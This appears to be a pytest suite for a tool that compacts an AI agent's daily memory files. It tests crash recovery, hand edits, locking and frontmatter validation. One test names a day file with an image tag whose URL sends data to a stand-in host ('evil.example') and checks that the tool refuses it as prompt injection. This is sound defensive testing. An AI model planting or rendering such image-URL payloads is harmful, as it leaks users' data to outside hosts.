"""`hotplex memory compact` against what a person or a killed run leaves behind: edited months,
folders that are files, days arriving between a request and its answer (the real command)."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import time
from pathlib import Path

import pytest
from hotplex_testing import HOTPLEX, MEMORY_MANIFEST, memory_days, project_files

MEMORY = "agent-configs/memory"


@pytest.fixture
def project(make_project):
    return make_project(memory_days(25), MEMORY_MANIFEST.format(extra=""))


@pytest.mark.parametrize("folder", ["compacted", "compacted/history", "archive"])
def test_a_companion_folder_that_is_a_file_is_refused_before_anything_is_made(
    project, hotplex, folder
):
    """compacted/history as a file was an internal error (exit 3); archive as one a bare "File
    exists", an empty compacted/ folder left behind."""
    taken = project / MEMORY / folder
    taken.parent.mkdir(parents=True, exist_ok=True)
    taken.write_text("x\n")
    before = project_files(project)
    done = hotplex("memory", "compact", "--archive", cwd=project)
    assert done.status == 2, done.stderr
    assert f"{MEMORY}/{folder}: {MEMORY}/{folder} is a file, not a folder" in done.stderr
    assert "Traceback" not in done.stderr
    assert project_files(project) == before
    assert sorted(p.name for p in (project / MEMORY).iterdir() if p.is_dir()) == (
        ["compacted"] if "/" in folder else []
    )


@pytest.mark.parametrize("digest_chars", [2000, 120])
def test_a_day_whose_name_the_build_refuses_is_not_compacted(make_project, hotplex, digest_chars):
    """A day is read under a heading of its name, and its month's digest lines name it: a name
    holding an unclicked image was refused only when its digest line made the month's text
    refused (and then at the month), and folded without a word when the digest had no room."""
    extra = f"digest_chars = {digest_chars}"
    project = make_project(memory_days(25), MEMORY_MANIFEST.format(extra=extra))
    oldest = sorted((project / MEMORY).glob("*.md"))[0]
    named = oldest.with_name(f"{oldest.stem}-<img src=https:evil.example?d={'A' * 60}>.md")
    named.write_text("- met acme\n")
    before = project_files(project)
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 1, done.stdout
    assert f"{MEMORY}/{named.name}: not compacted: possible prompt injection" in done.stderr
    assert "(rule image-url-data)" in done.stderr
    assert project_files(project) == before


@pytest.mark.parametrize("step", range(1, 7))
def test_a_run_killed_at_any_write_leaves_a_rerun_that_writes_every_history(
    make_project, hotplex, step
):
    """Killed between a month and its history, the rerun took the month for done: its note
    named a history that was never written, and the killed run's temp file stayed for good."""
    root = make_project(memory_days(25), MEMORY_MANIFEST.format(extra="digest_chars = 200"))
    killed = hotplex(
        "memory", "compact", "--archive", cwd=root, env={"HOTPLEX_CRASH_AT": str(step)}
    )
    assert killed.status == -9, killed.stdout + killed.stderr
    again = hotplex("memory", "compact", "--archive", cwd=root)
    assert again.status == 0, again.stderr
    assert [p.name for p in root.rglob("*.tmp")] == []
    logs = root / MEMORY
    for month in sorted((logs / "compacted").glob("*.md")):
        history = logs / "compacted/history" / month.name
        if "are kept whole in compacted/history/" in month.read_text():
            assert history.is_file(), month.name
            kept = history.read_text()
            for day in (logs / "archive").glob(f"{month.stem}-*.md"):
                ticket = day.read_text().split("\n")[0]
                assert ticket in kept or ticket[2:] in month.read_text(), (day.name, ticket)
    assert hotplex("memory", "compact", "--archive", cwd=root).stdout.startswith(
        "hotplex: nothing to compact"
    )


def test_an_answer_killed_after_one_write_keeps_the_replaced_text_once(project, hotplex):
    """The month was written before the history holding the text it replaced: killed between,
    the rerun found the month as the answer wants it, and the old text was nowhere."""
    assert hotplex("memory", "compact", cwd=project).status == 0
    month = project / MEMORY / "compacted/2026-09.md"
    old = month.read_text().split("---\n", 2)[2].strip()
    answer = project.parent / "answer.md"
    answer.write_text("- 2026-09-20 … 2026-09-30: tickets 0 to 10 done\n")
    args = ("memory", "compact", "--answer", str(answer), "--month", "2026-09")
    request = ("memory", "compact", "--request", "--target", "cc", "--month", "2026-09")
    assert hotplex(*request, cwd=project).status == 0
    assert hotplex(*args, cwd=project, env={"HOTPLEX_CRASH_AT": "2"}).status == -9
    assert hotplex(*args, cwd=project).status == 0
    history = (project / MEMORY / "compacted/history/2026-09.md").read_text()
    assert history.count(old) == 1 and history.count("before an answer replaced it") == 1
    assert "tickets 0 to 10 done" in month.read_text()


@pytest.mark.parametrize("archive", [(), ("--archive",)])
def test_a_persons_edit_of_a_month_is_kept_whole_when_a_new_day_recompacts_it(
    project, hotplex, archive
):
    """The month was rebuilt from its days alone: the edit was in no file, without a word."""
    assert hotplex("memory", "compact", *archive, cwd=project).status == 0
    month = project / MEMORY / "compacted/2026-09.md"
    edited = (
        month.read_text().split("---\n", 2)[2] + "- HAND EDIT: the on-call rota is in the wiki\n"
    )
    month.write_text(month.read_text() + "- HAND EDIT: the on-call rota is in the wiki\n")
    (project / MEMORY / "2026-09-19.md").write_text("- a late day of September\n")
    done = hotplex("memory", "compact", *archive, cwd=project)
    assert done.status == 0, done.stderr
    history = project / MEMORY / "compacted/history/2026-09.md"
    assert (
        f"    {MEMORY}/compacted/2026-09.md was edited since hotplex wrote it: its text kept whole"
        f" in {MEMORY}/compacted/history/2026-09.md" in done.stdout
    )
    assert history.read_text() == (
        "## 2026-09: the text its file held, edited by hand, before it was compacted again\n\n"
        + edited.strip()
        + "\n"
    )
    assert "a late day of September" in month.read_text()
    again = hotplex("memory", "compact", *archive, cwd=project)
    assert again.stdout.startswith("hotplex: nothing to compact")


def test_a_month_hotplex_wrote_and_nobody_edited_is_recompacted_without_a_history(project, hotplex):
    assert hotplex("memory", "compact", cwd=project).status == 0
    (project / MEMORY / "2026-09-19.md").write_text("- a late day of September\n")
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 0 and "edited" not in done.stdout
    assert not (project / MEMORY / "compacted/history").exists()


def test_an_answer_covers_the_days_its_request_held_as_they_were(make_project, hotplex):
    """A day added (or changed) between --request and --answer was filed as covered by an
    answer that never saw it: its entries were in no artifact, and no warning said so."""
    root = make_project(
        {
            f"{MEMORY}/2026-10-01.md": "- a\n",
            f"{MEMORY}/2026-10-03.md": "- c\n",
            f"{MEMORY}/2026-12-01.md": "- b\n",
        },
        MEMORY_MANIFEST.format(extra="").replace("= 10", "= 30"),
    )
    request = hotplex("memory", "compact", "--request", "--target", "cc", "--json", cwd=root)
    assert request.status == 0, request.stderr
    covers = json.loads(request.stdout)["covers"]
    assert sorted(covers) == ["2026-10-01.md", "2026-10-03.md"]
    (root / MEMORY / "2026-10-02.md").write_text("- IMPORTANT late day fact\n")
    (root / MEMORY / "2026-10-03.md").write_text("- c, changed since\n")
    answer = root.parent / "answer.md"
    answer.write_text("- 2026-10-01: a\n")
    done = hotplex("memory", "compact", "--answer", str(answer), "--json", cwd=root)
    assert done.status == 0, done.stderr
    month = json.loads(done.stdout)["months"][0]
    assert month["days"] == ["2026-10-01.md"]
    assert month["left"] == ["2026-10-02.md", "2026-10-03.md"]
    header = (root / MEMORY / "compacted/2026-10.md").read_text().split("---\n")[1]
    assert "2026-10-02.md" not in header and "2026-10-03.md" not in header
    built = hotplex("build", cwd=root)
    assert "2 day(s) more than memory.compact_after_days (30)" in built.stderr
    prompt = (root / "dist/cc/default/prompt.xml").read_text()
    assert "IMPORTANT late day fact" in prompt and "c, changed since" in prompt


def test_an_answer_without_a_request_is_refused(project, hotplex):
    answer = project.parent / "answer.md"
    answer.write_text("- 2026-09-20: tickets\n")
    before = project_files(project)
    done = hotplex("memory", "compact", "--answer", str(answer), cwd=project)
    assert done.status == 2
    assert "no compaction request to answer" in done.stderr
    assert project_files(project) == before


@pytest.mark.parametrize(
    ("header", "line", "key", "error"),
    [
        ('days: {"2026-09-20.md": 5}', 3, "days.2026-09-20.md", 'must be "SIZE DIGEST"'),
        ('days:\n  "2026-09-20.md": "zz 12"', 4, "days.2026-09-20.md", 'must be "SIZE DIGEST"'),
        ("days: [1, 2]", 3, "days", "must be a mapping of day file names"),
        ("compacted: 5", 2, "compacted", 'must be the month as text, "2026-09"'),
        ('compacted: "2026-11"', 2, "compacted", "names 2026-11, but the file is 2026-09's"),
        ("compactor: 7", 3, "compactor", "must be text"),
    ],
)
@pytest.mark.parametrize("command", [("build",), ("check",), ("memory", "compact", "--dry-run")])
def test_a_months_frontmatter_of_the_wrong_types_is_an_error_at_its_line_and_key(
    project, hotplex, header, line, key, error, command
):
    """Each was accepted without a word: the month shown, a bogus day counted as covered."""
    month = project / MEMORY / "compacted/2026-09.md"
    month.parent.mkdir(parents=True)
    first = "" if header.startswith("compacted") else 'compacted: "2026-09"\n'
    month.write_text(f"---\n{first}{header}\n---\n- hand note\n")
    done = hotplex(*command, cwd=project)
    assert done.status == 2, done.stdout + done.stderr
    assert f"{MEMORY}/compacted/2026-09.md:{line}:" in done.stderr
    assert f": {key}: " in done.stderr and error in done.stderr, done.stderr
    assert "Traceback" not in done.stderr


def _opened(pid: int, path: Path) -> bool:
    """Whether process ``pid`` has ``path`` open (it reached the lock)."""
    fds = Path(f"/proc/{pid}/fd")
    try:
        return any(os.path.realpath(fd) == str(path.resolve()) for fd in fds.iterdir())
    except (FileNotFoundError, ProcessLookupError):
        return False


def test_two_archive_runs_at_once_the_second_waits_for_the_first(project):
    """The attacker's case: two `memory compact --archive` at once, the loser failing mid-way
    ("cannot archive …: … exists", one file the other had moved). The first is stopped at its
    first write, holding the lock; the second reaches the lock and waits until it ends."""
    days = {p.name: p.read_bytes() for p in (project / MEMORY).glob("*.md")}
    command = [str(HOTPLEX), "memory", "compact", "--archive"]
    stopped = {"HOTPLEX_CRASH_AT": "1", "HOTPLEX_CRASH_SIGNAL": "STOP"}
    first = subprocess.Popen(
        command, cwd=project, env={**os.environ, **stopped}, stdout=subprocess.PIPE, text=True
    )
    while Path(f"/proc/{first.pid}/stat").read_text().split(")")[1].split()[0] != "T":
        assert first.poll() is None
        time.sleep(0.005)  # a poll for the event, the stop, sharing the cores with the runs
    waiting = {"HOTPLEX_LOCK_TIMEOUT": "120"}
    second = subprocess.Popen(
        command, cwd=project, env={**os.environ, **waiting}, stdout=subprocess.PIPE, text=True
    )
    while second.poll() is None and not _opened(second.pid, project / ".hotplex/memory.lock"):
        time.sleep(0.005)  # as above: until the second has the lock's file open, or ends
    first.send_signal(signal.SIGCONT)
    assert first.wait(60) == 0
    assert second.wait(60) == 0
    assert second.stdout.read().startswith("hotplex: nothing to compact")
    assert "archived 14 day(s)" in first.stdout.read()
    kept = {p.name: p.read_bytes() for p in (project / MEMORY).rglob("2026-*-*.md")}
    assert kept == days


def test_a_workers_summary_is_kept_whole_when_a_new_day_recompacts_its_month(project, hotplex):
    """The days cannot give a model's summary again: the built-in month replacing it keeps it."""
    request = ("memory", "compact", "--request", "--target", "cc", "--month", "2026-09")
    assert hotplex(*request, cwd=project).status == 0
    answer = project.parent / "answer.md"
    answer.write_text("- 2026-09-20 … 2026-09-30: tickets 0 to 10 done\n")
    assert hotplex("memory", "compact", "--answer", str(answer), cwd=project).status == 0
    (project / MEMORY / "2026-09-19.md").write_text("- a late day of September\n")
    done = hotplex("memory", "compact", cwd=project)
    assert done.status == 0, done.stderr
    assert f"{MEMORY}/compacted/2026-09.md held a worker's summary: its text kept whole" in (
        done.stdout
    )
    history = (project / MEMORY / "compacted/history/2026-09.md").read_text()
    assert (
        "## 2026-09: the text its file held, a worker's summary, before it was compacted again"
        "\n\n- 2026-09-20 … 2026-09-30: tickets 0 to 10 done\n" in history
    )
